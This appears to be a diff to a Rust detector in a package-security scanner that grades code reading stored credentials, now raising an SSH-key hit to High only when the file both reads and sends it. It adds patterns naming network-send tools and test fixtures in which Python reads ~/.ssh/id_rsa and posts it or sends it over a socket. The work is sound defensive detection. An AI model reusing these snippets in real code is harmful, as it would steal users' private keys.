@@ -5,12 +5,18 @@
 //! `.npmrc`, `.pypirc`, `.netrc`, gcloud), crypto wallets (Exodus, Electrum,
 //! Atomic, `wallet.dat`, MetaMask/Phantom extension ids), Discord/Telegram sessions.
 //!
-//! Browser/wallet/session/SSH paths are High; developer-tool config Medium (the
-//! matching tools legitimately read their own config); install time Critical.
-//! Python comments/docstrings, tests and docs are skipped.
+//! Browser/wallet/session paths are High; install time Critical. An SSH key is
+//! stolen only when it is read *and* sent: High needs a read (`open`, `read_text`,
+//! `cat`, a copy) and a data sink (`requests.post`, `sendall`, SMTP, a `curl`/`wget`
+//! pipeline…) in the same file; a read without a sink is an SSH client using its key
+//! (automation tools, SSH libraries, schedulers' SSH hooks: Medium); a mention without
+//! a read (a CLI that tells the user where to put a key) is Low. Developer-tool config
+//! is Medium when read (the matching tools legitimately read their own config), Low
+//! when only named. Python comments/docstrings, tests and docs are skipped.
 
 use super::context;
 use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
+use super::sinks::{self, SinkKind};
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
 use regex::Regex;
@@ -18,7 +24,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "file-system.credential-access",
-    revision: 1,
+    revision: 2,
     title: "Accesses stored credentials, browser data or crypto wallets.",
     category: Category::FileSystem,
     severity: Severity::High,
@@ -53,6 +59,34 @@ fn in_prose(src: &Source<'_>, start: usize, end: usize) -> bool {
     let words = rest.split_whitespace().filter(|w| w.chars().any(char::is_alphabetic)).count();
     let plumbing = ["|", ";", "$(", "`", ">", "cat ", "cp ", "curl", "wget", "scp ", "tar ", "base64", "{"];
     words >= 2 && !plumbing.iter().any(|p| body.contains(p))
+}
+
+/// Code that reads or copies a file's content.
+static READ: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u:\b)(?:open|read_text|read_bytes|copyfile|copy2?|copytree|sqlite3\.connect)\s*\(|\bcat\s+[~/$]")
+        .expect("read")
+});
+/// Shell plumbing that ships data off the machine from inside a string.
+static SHELL_SEND: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u:\b)(?:curl|wget|nc|ncat|scp|Invoke-WebRequest|Invoke-RestMethod)(?-u:\b)").expect("shell send")
+});
+
+/// A raw socket made in the file, and a `.send(` on something.
+static RAW_SOCKET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u:\b)socket\.socket\s*\(|(?-u:\b)socket\s*\(\s*(?:socket\.)?AF_").expect("socket")
+});
+static SEND_CALL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\.send\s*\(").expect("send"));
+
+/// Whether the file both reads a file and sends data somewhere: what stealing a key takes.
+/// An SSH connection (`.connect(`, `socket.create_connection`) uses a key; it does not send it.
+fn reads_and_sends(src: &Source<'_>) -> (bool, bool) {
+    let reads = READ.find_iter(src.text).any(|m| !src.python || src.is_live(m.start()));
+    let sends = sinks::find(src, &[SinkKind::Send])
+        .iter()
+        .any(|s| !s.name.ends_with("connect") && !s.name.ends_with("create_connection"))
+        || SHELL_SEND.find_iter(src.text).any(|m| !src.python || src.kind_at(m.start()) == Kind::Str)
+        || [&*RAW_SOCKET, &*SEND_CALL].iter().all(|re| re.find_iter(src.text).any(|m| src.is_code(m.start())));
+    (reads, sends)
 }
 
 pub(crate) struct CredentialAccess;
@@ -113,6 +147,7 @@ impl Detector for CredentialAccess {
         }
         let src = file.source();
         let install = file.role == FileRole::InstallTime;
+        let read_send = std::cell::OnceCell::new();
         let mut n = 0;
         for c in PATHS.captures_iter(file.text) {
             if n >= MAX_HITS_PER_FILE {
@@ -122,10 +157,13 @@ impl Detector for CredentialAccess {
             if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str) {
                 continue;
             }
+            let ssh = m.as_str().contains("id_");
+            let (reads, sends) = *read_send.get_or_init(|| reads_and_sends(src));
             let sev = match (install, c.name("high").is_some()) {
                 (true, _) => Severity::Critical,
-                (false, true) => Severity::High,
-                (false, false) => Severity::Medium,
+                (false, true) if !ssh || reads && sends => Severity::High,
+                (false, _) if reads => Severity::Medium,
+                (false, _) => Severity::Low,
             };
             // Prose that names the path ("reads env vars, ~/.aws/credentials, ...") is low;
             // so is a path in a data file or web asset (a prompt, a keyword list).
@@ -177,11 +215,53 @@ mod tests {
                     Some((1, ".aws/credentials", Critical)),
                 ),
                 (
-                    "ssh key opened",
+                    "ssh key opened and posted",
                     "pkg/a.py",
                     Runtime,
-                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
+                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(URL, data=k)\n",
                     Some((1, ".ssh/id_rsa", High)),
+                ),
+                (
+                    "ssh key read and sent over a raw socket",
+                    "pkg/a.py",
+                    Runtime,
+                    "k = Path.home().joinpath('.ssh', 'id_ed25519').read_text()\ns.connect((H, 443)); s.sendall(k.encode())\n",
+                    Some((1, ".ssh id_ed25519", High)),
+                ),
+                (
+                    "ssh key harvested and sent over a raw socket (dependency-confusion beacon)",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "def collect():\n    info['ssh'] = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    s = socket.socket(); s.connect((H, 53)); s.send(repr(info).encode())\n",
+                    Some((2, ".ssh/id_rsa", High)),
+                ),
+                (
+                    "ssh key opened to connect (an SSH client's job)",
+                    "pkg/a.py",
+                    Runtime,
+                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nclient.connect(host, pkey=load(k))\n",
+                    Some((1, ".ssh/id_rsa", Medium)),
+                ),
+                (
+                    "automation tool's default key path, read to connect",
+                    "pkg/plugins/connection/ssh.py",
+                    Runtime,
+                    "DEFAULT_KEY = os.path.expanduser('~/.ssh/id_rsa')\ndef key(p):\n    with open(p) as f:\n        return f.read()\n",
+                    Some((1, ".ssh/id_rsa", Medium)),
+                ),
+                (
+                    "a CLI that tells the user where to put a key",
+                    "pkg/cli.py",
+                    Runtime,
+                    "print(f\"Add your key to ~/.ssh/id_ed25519 and run {prog} again\")\n",
+                    Some((1, ".ssh/id_ed25519", Low)),
+                ),
+                (
+                    "a key path as a default, never read here",
+                    "pkg/config.py",
+                    Runtime,
+                    "KEY = '~/.ssh/id_ed25519'\n",
+                    Some((1, ".ssh/id_ed25519", Low)),
                 ),
                 (
                     "prompt text in a web asset",
@@ -233,13 +313,20 @@ mod tests {
                     Some((1, "Exodus\\\\exodus.wallet", High)),
                 ),
                 (
-                    "aws credentials",
+                    "aws credentials named, never read",
                     "pkg/cfg.py",
                     Runtime,
                     "CRED = '~/.aws/credentials'\n",
-                    Some((1, ".aws/credentials", Medium)),
+                    Some((1, ".aws/credentials", Low)),
                 ),
-                ("pypirc", "pkg/up.py", Runtime, "rc = os.path.join(home, '.pypirc')\n", Some((1, ".pypirc", Medium))),
+                (
+                    "pypirc read",
+                    "pkg/up.py",
+                    Runtime,
+                    "rc = os.path.join(home, '.pypirc')\ncfg.read_file(open(rc))\n",
+                    Some((1, ".pypirc", Medium)),
+                ),
+                ("netrc in a change log", "pkg-1.0/CHANGELOG", Other, "* Read credentials from ~/.netrc\n", Some((1, "/.netrc", Low))),
                 ("in docstring", "pkg/a.py", Runtime, "\"\"\"Reads ~/.aws/credentials.\"\"\"\n", None),
                 ("in tests", "pkg/tests/test_a.py", Runtime, "p = '~/.ssh/id_rsa'\n", None),
                 ("login data as prose", "pkg/a.py", Runtime, "msg = 'Invalid login data supplied'\n", None),
